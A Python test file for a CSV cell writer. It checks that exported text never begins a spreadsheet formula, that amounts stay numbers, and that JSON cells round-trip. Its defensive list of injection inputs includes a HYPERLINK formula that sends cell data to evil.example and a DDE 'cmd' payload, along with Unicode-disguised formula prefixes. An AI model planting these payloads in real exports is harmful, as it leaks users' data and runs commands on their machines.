"""Cells of a CSV file: no spreadsheet runs what others have written, and amounts stay numbers."""

import csv
import json
import re
import unicodedata
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared import cells
from shared.cells import Cell

NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
EVIL = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tharmless until it is trimmed",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\u2003@A1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\ufe66 1",
    "\u22121",
    '"=1',
    '" =1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "a;=1+1",
    "a; =1+1",
    'a;"=1+1',
    "a,=1+1",
    "a\t=1+1",
    "a|=1+1",
    "a\n=1+1",
    "a\r\n@A1",
    "+49 30 1234",
    "-120.50",
]
TEXTS = st.text(
    st.one_of(st.sampled_from("=+-@;,|\t\r\n \"'aZ1\uff1d\uff0d\u200b\ufeff"), st.characters(codec="utf-8"))
)


def written(*row: Cell) -> str:
    """Return a row as it stands in the file."""
    file = StringIO()
    cells.write(file, [row])
    return file.getvalue()


def begins_formula(text: str) -> bool:
    """Tell whether a spreadsheet that trims, skips what cannot be seen and folds wide forms would run it."""
    seen = [one for one in text if one != '"' and unicodedata.category(one) not in {"Cc", "Cf", "Zs", "Zl", "Zp"}]
    first = unicodedata.normalize("NFKC", seen[0])[0] if seen else ""
    return first in {"=", "+", "-", "@", "\u2212"} and not NUMBER.fullmatch(text)


@pytest.mark.parametrize("evil", EVIL, ids=ascii)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_a_text_begins_no_formula_whatever_divides_the_cells(evil: str, delimiter: str) -> None:
    for row in csv.reader(StringIO(written("first", evil, Decimal("-5.00"), evil), newline=""), delimiter=delimiter):
        assert not [one for one in row if begins_formula(one)]


@given(st.lists(TEXTS, min_size=1, max_size=4))
def test_no_text_begins_a_formula(texts: list[str]) -> None:
    line = written(*(text.replace("\0", "") for text in texts))
    for delimiter in ",;\t|":
        for row in csv.reader(StringIO(line, newline=""), delimiter=delimiter):
            assert not [one for one in row if begins_formula(one)]


@given(st.lists(TEXTS, min_size=1, max_size=4))
def test_a_text_is_read_back_but_for_the_apostrophes(texts: list[str]) -> None:
    texts = [text.replace("\0", "") for text in texts]
    (row,) = csv.reader(StringIO(written(*texts), newline=""), strict=True)
    assert [one.replace("'", "") for one in row] == [one.replace("'", "") for one in texts]
    for before, after in zip(texts, row, strict=True):
        assert after == before or "'" in after


@pytest.mark.parametrize("text", ["Acme", "acme-1", "Müller & Söhne", "a=b", "mail@acme.example", "2026-06-30", ""])
def test_what_begins_no_formula_stays_as_it_is(text: str) -> None:
    assert cells.cell(text) == text


@pytest.mark.parametrize("amount", ["-120.50", "0.00", "1190.00", "-0.000001", "1000000000000"])
def test_an_amount_stays_a_number(amount: str) -> None:
    (row,) = csv.reader(StringIO(written(Decimal(amount))))
    assert row == [amount]
    assert NUMBER.fullmatch(row[0])


def test_an_amount_is_never_written_with_an_exponent() -> None:
    assert cells.cell(Decimal("1E+3")) == "1000"


def test_a_text_that_looks_like_an_amount_is_none() -> None:
    assert cells.cell("-120.50") == "'-120.50"


@given(st.recursive(TEXTS | st.integers() | st.none(), lambda inner: st.lists(inner) | st.dictionaries(TEXTS, inner)))
def test_json_in_a_cell_begins_no_formula_and_says_the_same(content: object) -> None:
    text = cells.json_cell([content])
    assert json.loads(text) == [content]
    for divided in re.split(r"[,;|\t\r\n]", text):
        assert not begins_formula(divided) or re.fullmatch(r"-[0-9]+[]}]*", divided)


def test_lines_end_as_rfc_4180_wants() -> None:
    assert written("a", 'say "b"', None) == '"a","say ""b""",""\r\n'
